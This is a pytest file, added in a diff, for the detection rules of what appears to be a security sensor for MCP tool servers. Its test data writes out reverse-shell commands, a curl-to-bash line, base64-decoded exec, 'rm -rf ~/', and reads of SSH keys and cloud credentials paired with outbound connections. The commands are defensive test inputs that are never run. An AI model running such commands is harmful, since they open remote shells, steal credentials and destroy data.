@@ -1,0 +1,438 @@
+"""The built-in rules over classes of actions: variants that must fire, look-alikes that must not.
+
+These judge plain actions (what the sensor records) with the real rule file; the end-to-end
+tests in test_detections.py show the same rules on a real server.
+"""
+
+from __future__ import annotations
+
+import os
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from mcptrace.policy.detect import (
+    Action,
+    DetectionRuleError,
+    Detector,
+    builtin_rules,
+    load_detection_rules,
+    parse_detection_tables,
+    unusual_dns_name,
+)
+
+HOME = os.path.realpath(os.path.expanduser("~"))
+DETECTOR = Detector(builtin_rules().values())
+
+
+def opened(path: str, access: str = "read") -> tuple[str, dict[str, Any]]:
+    return "mcptrace.file.open", {"file.path": path, "mcptrace.file.access": access}
+
+
+def spawned(*argv: str, shell: bool = False) -> tuple[str, dict[str, Any]]:
+    attributes: dict[str, Any] = {
+        "process.executable.path": argv[0],
+        "process.command_args": list(argv),
+    }
+    if shell:
+        attributes["mcptrace.process.shell"] = True
+    return "mcptrace.process.spawn", attributes
+
+
+def connected(address: str, port: int) -> tuple[str, dict[str, Any]]:
+    return "mcptrace.network.connect", {
+        "server.address": address,
+        "server.port": port,
+        "network.transport": "tcp",
+    }
+
+
+def rules_for(*actions: tuple[str, dict[str, Any]], tool: str = "t") -> set[str]:
+    timed = [Action(index, name, attrs) for index, (name, attrs) in enumerate(actions)]
+    return {finding.rule.id for finding in DETECTOR.evaluate(timed, tool)}
+
+
+H = HOME
+POSITIVE = [
+    ([opened(f"{H}/.ssh/id_ed25519")], "credential-access.ssh-private-key"),
+    ([opened("/home/alice/.ssh/id_ecdsa")], "credential-access.ssh-private-key"),
+    ([opened(f"{H}/.ssh/deploy_rsa")], "credential-access.ssh-private-key"),
+    (
+        [
+            (
+                "mcptrace.file.copy",
+                {"file.path": f"{H}/.ssh/id_rsa", "mcptrace.file.target_path": "/tmp/k"},
+            )
+        ],
+        "credential-access.ssh-private-key",
+    ),
+    ([opened(f"{H}/.aws/credentials")], "credential-access.cloud-credentials"),
+    (
+        [opened(f"{H}/.config/gcloud/application_default_credentials.json")],
+        "credential-access.cloud-credentials",
+    ),
+    ([opened(f"{H}/.azure/accessTokens.json")], "credential-access.cloud-credentials"),
+    ([opened(f"{H}/.kube/config")], "credential-access.cloud-credentials"),
+    ([opened("/srv/app/.env")], "credential-access.secrets-file"),
+    ([opened(f"{H}/.netrc")], "credential-access.secrets-file"),
+    ([opened(f"{H}/.git-credentials")], "credential-access.secrets-file"),
+    ([opened(f"{H}/.docker/config.json")], "credential-access.secrets-file"),
+    ([opened(f"{H}/.pgpass")], "credential-access.secrets-file"),
+    ([opened(f"{H}/.mozilla/firefox/abc.default/logins.json")], "credential-access.browser-data"),
+    ([opened(f"{H}/.config/google-chrome/Default/Cookies")], "credential-access.browser-data"),
+    ([opened(f"{H}/.local/share/keyrings/login.keyring")], "credential-access.keyring"),
+    ([opened("/etc/shadow")], "credential-access.system-secrets"),
+    ([opened("/proc/1/environ")], "credential-access.process-memory"),
+    ([opened("/proc/1/mem")], "credential-access.process-memory"),
+    ([opened("/proc/1/cmdline")], "discovery.process-command-line"),
+    ([opened("/proc/self/environ")], "credential-access.own-environment"),
+    ([opened(f"{H}/.bashrc", "append")], "persistence.shell-startup"),
+    ([opened(f"{H}/.zshrc", "write")], "persistence.shell-startup"),
+    ([opened(f"{H}/.profile", "read_write")], "persistence.shell-startup"),
+    (
+        [
+            (
+                "mcptrace.file.rename",
+                {"file.path": "/tmp/x", "mcptrace.file.target_path": f"{H}/.bashrc"},
+            )
+        ],
+        "persistence.shell-startup",
+    ),
+    ([opened(f"{H}/.ssh/authorized_keys", "append")], "persistence.ssh-authorized-keys"),
+    ([opened("/etc/cron.d/update", "create")], "persistence.cron"),
+    ([opened("/var/spool/cron/crontabs/root", "write")], "persistence.cron"),
+    ([spawned("/usr/bin/crontab", "/tmp/jobs")], "persistence.crontab-command"),
+    ([opened(f"{H}/.config/systemd/user/agent.service", "create")], "persistence.service-unit"),
+    ([opened(f"{H}/.config/autostart/agent.desktop", "create")], "persistence.service-unit"),
+    ([opened("/usr/lib/python3/dist-packages/evil.pth", "create")], "persistence.python-startup"),
+    (
+        [opened(f"{H}/.local/lib/python3.11/site-packages/sitecustomize.py", "write")],
+        "persistence.python-startup",
+    ),
+    (
+        [opened("/opt/venv/lib/python3.11/site-packages/requests/__init__.py", "write")],
+        "persistence.site-packages-write",
+    ),
+    ([spawned("/bin/sh", "-c", "id")], "execution.shell"),
+    ([spawned("bash", "-c", "ls")], "execution.shell"),
+    ([spawned("/usr/bin/env", "bash", "-c", "ls")], "execution.shell"),
+    ([spawned("ls -la", shell=True)], "execution.shell-command"),
+    ([spawned("/bin/bash", "-i")], "execution.reverse-shell"),
+    ([spawned("bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1")], "execution.reverse-shell"),
+    ([spawned("nc", "-e", "/bin/sh", "127.0.0.1", "4444")], "execution.reverse-shell"),
+    ([connected("127.0.0.1", 8081), spawned("/bin/sh")], "execution.reverse-shell-pattern"),
+    ([spawned("/usr/bin/python3", "-c", "print(1)")], "execution.interpreter"),
+    ([spawned("perl", "-e", "print 1")], "execution.interpreter"),
+    (
+        [spawned("python3", "-c", "import base64;exec(base64.b64decode('eA=='))")],
+        "execution.inline-code",
+    ),
+    ([spawned("sh", "-c", "echo aWQ= | base64 -d | sh")], "execution.inline-code"),
+    (
+        [spawned("sh", "-c", "curl -s http://127.0.0.1:8000/x.sh | bash")],
+        "execution.download-and-run",
+    ),
+    ([spawned("/usr/bin/curl", "http://127.0.0.1/x")], "execution.download-tool"),
+    ([spawned("/tmp/.x/payload")], "execution.writable-dir-binary"),
+    ([spawned(f"{H}/.cache/agent")], "execution.writable-dir-binary"),
+    ([spawned("whoami")], "discovery.system-commands"),
+    ([spawned("/usr/bin/uname", "-a")], "discovery.system-commands"),
+    (
+        [
+            (
+                "mcptrace.code.exec",
+                {"mcptrace.code.operation": "compile", "mcptrace.code.filename": "<string>"},
+            )
+        ],
+        "execution.dynamic-code",
+    ),
+    (
+        [
+            connected("127.0.0.1", 8000),
+            (
+                "mcptrace.code.exec",
+                {"mcptrace.code.operation": "compile", "mcptrace.code.filename": "<string>"},
+            ),
+        ],
+        "execution.downloaded-code",
+    ),
+    (
+        [("mcptrace.code.deserialize", {"mcptrace.deserialize.format": "marshal"})],
+        "execution.marshalled-code",
+    ),
+    (
+        [
+            (
+                "mcptrace.code.deserialize",
+                {
+                    "mcptrace.deserialize.format": "pickle",
+                    "mcptrace.deserialize.global": "posix.system",
+                },
+            )
+        ],
+        "execution.unpickle-dangerous",
+    ),
+    (
+        [
+            (
+                "mcptrace.code.deserialize",
+                {
+                    "mcptrace.deserialize.format": "pickle",
+                    "mcptrace.deserialize.global": "subprocess.Popen",
+                },
+            )
+        ],
+        "execution.unpickle-dangerous",
+    ),
+    (
+        [
+            (
+                "mcptrace.code.deserialize",
+                {
+                    "mcptrace.deserialize.format": "pickle",
+                    "mcptrace.deserialize.global": "collections.OrderedDict",
+                },
+            )
+        ],
+        "execution.unpickle",
+    ),
+    (
+        [("mcptrace.native.load", {"file.path": "/tmp/libx.so"})],
+        "defense-evasion.native-from-writable",
+    ),
+    (
+        [("mcptrace.native.load", {"file.path": "/dev/shm/a.so"})],
+        "defense-evasion.native-from-writable",
+    ),
+    (
+        [("mcptrace.native.load", {"file.path": "/proc/self/fd/5"})],
+        "defense-evasion.memory-loaded-library",
+    ),
+    (
+        [("mcptrace.module.import", {"file.path": "/tmp/pkg/evil.py"})],
+        "defense-evasion.module-from-writable",
+    ),
+    (
+        [("mcptrace.sensor.tamper", {"mcptrace.audit.event": "sys.addaudithook"})],
+        "defense-evasion.sensor-tamper",
+    ),
+    (
+        [("mcptrace.sensor.tamper", {"mcptrace.audit.event": "sys.settrace"})],
+        "defense-evasion.tracing-hook",
+    ),
+    (
+        [("mcptrace.file.chmod", {"file.path": "/tmp/sh", "file.mode": "4755"})],
+        "privilege-escalation.setuid",
+    ),
+    (
+        [("mcptrace.file.chmod", {"file.path": "/srv/data", "file.mode": "0777"})],
+        "defense-evasion.world-writable",
+    ),
+    ([spawned("chmod", "u+s", "/tmp/sh")], "privilege-escalation.setuid-command"),
+    ([spawned("chmod", "4755", "/tmp/sh")], "privilege-escalation.setuid-command"),
+    (
+        [
+            (
+                "mcptrace.file.delete",
+                {"file.path": f"{H}/Documents", "mcptrace.file.recursive": True},
+            )
+        ],
+        "impact.recursive-delete",
+    ),
+    (
+        [("mcptrace.file.delete", {"file.path": f"{H}/.ssh", "mcptrace.file.recursive": True})],
+        "impact.destructive-delete",
+    ),
+    (
+        [("mcptrace.file.delete", {"file.path": f"{H}/proj/f{i}.txt"}) for i in range(25)],
+        "impact.mass-delete",
+    ),
+    ([spawned("sh", "-c", "rm -rf ~/")], "impact.destructive-command"),
+    (
+        [
+            (
+                "mcptrace.file.rename",
+                {"file.path": f"{H}/a.doc", "mcptrace.file.target_path": f"{H}/a.doc.locked"},
+            )
+        ],
+        "impact.encrypted-for-ransom",
+    ),
+    ([opened(f"{H}/.bash_history", "write")], "defense-evasion.clear-history"),
+    ([connected("10.1.2.3", 443)], "network.outbound"),
+    ([connected("169.254.169.254", 80)], "credential-access.cloud-metadata"),
+    ([connected("127.0.0.1", 4444)], "network.suspicious-port"),
+    ([connected("127.0.0.1", 31337)], "network.suspicious-port"),
+    (
+        [("mcptrace.network.resolve", {"server.address": "abc.ngrok-free.app"})],
+        "network.exfiltration-service",
+    ),
+    (
+        [
+            (
+                "mcptrace.network.request",
+                {"url.full": "https://webhook.site/x", "http.request.method": "POST"},
+            )
+        ],
+        "network.exfiltration-service",
+    ),
+    (
+        [
+            (
+                "mcptrace.network.resolve",
+                {"server.address": "4a6f686e20446f65206b6579.x.example.com"},
+            )
+        ],
+        "network.unusual-dns-name",
+    ),
+    ([opened(f"{H}/.ssh/id_rsa"), connected("127.0.0.1", 9999)], "exfiltration.after-collection"),
+    (
+        [
+            opened(f"{H}/.aws/credentials"),
+            (
+                "mcptrace.network.request",
+                {"url.full": "http://127.0.0.1:8000/u", "http.request.method": "POST"},
+            ),
+        ],
+        "exfiltration.after-collection",
+    ),
+    ([spawned("whoami"), connected("127.0.0.1", 9999)], "exfiltration.after-collection"),
+    (
+        [
+            (
+                "mcptrace.network.send",
+                {"server.address": "127.0.0.1", "server.port": 5353, "network.transport": "udp"},
+            )
+        ],
+        "exfiltration.datagram",
+    ),
+    (
+        [("mcptrace.process.putenv", {"mcptrace.env.key": "LD_PRELOAD"})],
+        "defense-evasion.environment-hijack",
+    ),
+]
+
+
+@pytest.mark.parametrize(("actions", "rule"), POSITIVE, ids=[rule for _, rule in POSITIVE])
+def test_rule_fires_on_variants(actions: list[tuple[str, dict[str, Any]]], rule: str) -> None:
+    assert rule in rules_for(*actions)
+
+
+NEGATIVE = [
+    [opened(f"{H}/.ssh/id_rsa.pub")],
+    [opened(f"{H}/.ssh/known_hosts")],
+    [opened("/srv/app/.env.example")],
+    [opened(f"{H}/.bashrc")],  # reading a start-up file is not changing it
+    [opened("/tmp/scratch.txt", "write")],
+    [opened("/opt/venv/lib/python3.11/site-packages/certifi/cacert.pem")],
+    [opened("/opt/venv/lib/python3.11/site-packages/mod/__pycache__/x.cpython-311.pyc", "write")],
+    [opened(f"/proc/{os.getpid()}/status")],
+    [opened("/proc/self/cmdline")],
+    [spawned("/usr/bin/git", "status")],
+    [
+        spawned(
+            "/usr/bin/python3", "-c", "from multiprocessing.spawn import spawn_main; spawn_main()"
+        )
+    ],
+    [spawned(f"{H}/.venv/bin/ruff", "check")],
+    [connected("127.0.0.1", 8080)],
+    [connected("::1", 443)],
+    [("mcptrace.network.resolve", {"server.address": "api.github.com"})],
+    [("mcptrace.network.resolve", {"server.address": "localhost"})],
+    [("mcptrace.network.resolve", {"server.address": "www.example.co.uk"})],
+    [
+        (
+            "mcptrace.code.exec",
+            {"mcptrace.code.operation": "compile", "mcptrace.code.filename": "<unknown>"},
+        )
+    ],
+    [
+        (
+            "mcptrace.code.exec",
+            {
+                "mcptrace.code.operation": "compile",
+                "mcptrace.code.filename": "<attrs generated __eq__ x.Y>",
+            },
+        )
+    ],
+    [
+        (
+            "mcptrace.code.exec",
+            {
+                "mcptrace.code.operation": "compile",
+                "mcptrace.code.filename": "<string>",
+                "mcptrace.origin": "library",
+            },
+        )
+    ],
+    [("mcptrace.file.delete", {"file.path": "/tmp/tmpabc123", "mcptrace.file.recursive": True})],
+    [("mcptrace.file.delete", {"file.path": f"{H}/proj/build/out.o"})],
+    [("mcptrace.file.chmod", {"file.path": "/srv/data/report.txt", "file.mode": "0644"})],
+    [("mcptrace.native.load", {"file.path": "/usr/lib/x86_64-linux-gnu/libssl.so.3"})],
+    [("mcptrace.native.load", {"file.path": f"{H}/.venv/lib/python3.11/site-packages/x/_c.so"})],
+    [opened(f"{H}/notes.txt"), connected("127.0.0.1", 8080)],
+    [
+        (
+            "mcptrace.network.send",
+            {"server.address": "/run/systemd/notify", "network.transport": "unix"},
+        )
+    ],
+]
+
+
+@pytest.mark.parametrize("actions", NEGATIVE, ids=[str(a[0][1])[:60] for a in NEGATIVE])
+def test_look_alikes_raise_nothing(actions: list[tuple[str, dict[str, Any]]]) -> None:
+    assert rules_for(*actions) == set()
+
+
+def test_unusual_dns_names() -> None:
+    assert unusual_dns_name("mzxw6ytboi2dsnzrgqzdcmzugmzdknrr.tunnel.example.net")
+    assert unusual_dns_name("a.b.c.d.e.f.g.h.i.example.com")
+    assert unusual_dns_name("secretsite.onion")
+    assert not unusual_dns_name("files.pythonhosted.org")
+    assert not unusual_dns_name("d3b7a8f9c.cloudfront.net")  # the label that varies is the host
+    assert not unusual_dns_name("127.0.0.1")
+
+
+def test_one_finding_per_rule_and_subject_with_a_count() -> None:
+    actions = [Action(i, *opened(f"{H}/.ssh/id_rsa")) for i in range(3)]
+    (finding,) = [f for f in DETECTOR.evaluate(actions, "t") if f.rule.id.startswith("credential")]
+    assert finding.occurrences == 3
+
+
+def test_user_rule_validation_lists_every_problem() -> None:
+    with pytest.raises(DetectionRuleError) as caught:
+        parse_detection_tables(
+            [
+                {"id": "a", "severity": "loud", "reason": "r", "events": ["file.open"]},
+                {"id": "b", "severity": "warning", "reason": "r", "events": ["file.opne"]},
+                {"id": "c", "severity": "warning", "events": ["file.open"], "pahts": ["/x"]},
+            ],
+            "p.toml",
+            builtin_rules(),
+        )
+    text = str(caught.value)
+    assert "severity = 'loud'" in text
+    assert "unknown event 'file.opne'" in text
+    assert "did you mean 'paths'" in text
+
+
+def test_every_builtin_rule_is_documented_and_well_formed() -> None:
+    rules = load_detection_rules(None)
+    assert len(rules) >= 40
+    for rule in rules:
+        assert rule.reason and rule.events and rule.severity
+        assert not rule.technique or rule.technique.startswith("T")
+
+
+def test_user_rules_come_from_a_policy_file(tmp_path: Path) -> None:
+    policy = tmp_path / "p.toml"
+    policy.write_text('[[detection]]\nid = "execution.shell"\nenabled = false\n')
+    rules = {rule.id: rule for rule in load_detection_rules(policy)}
+    assert rules["execution.shell"].enabled is False
+    assert "execution.shell" not in rules_with(rules, spawned("/bin/sh", "-c", "x"))
+
+
+def rules_with(rules: dict[str, Any], action: tuple[str, dict[str, Any]]) -> set[str]:
+    detector = Detector(rules.values())
+    return {f.rule.id for f in detector.evaluate([Action(0, *action)], "t")}
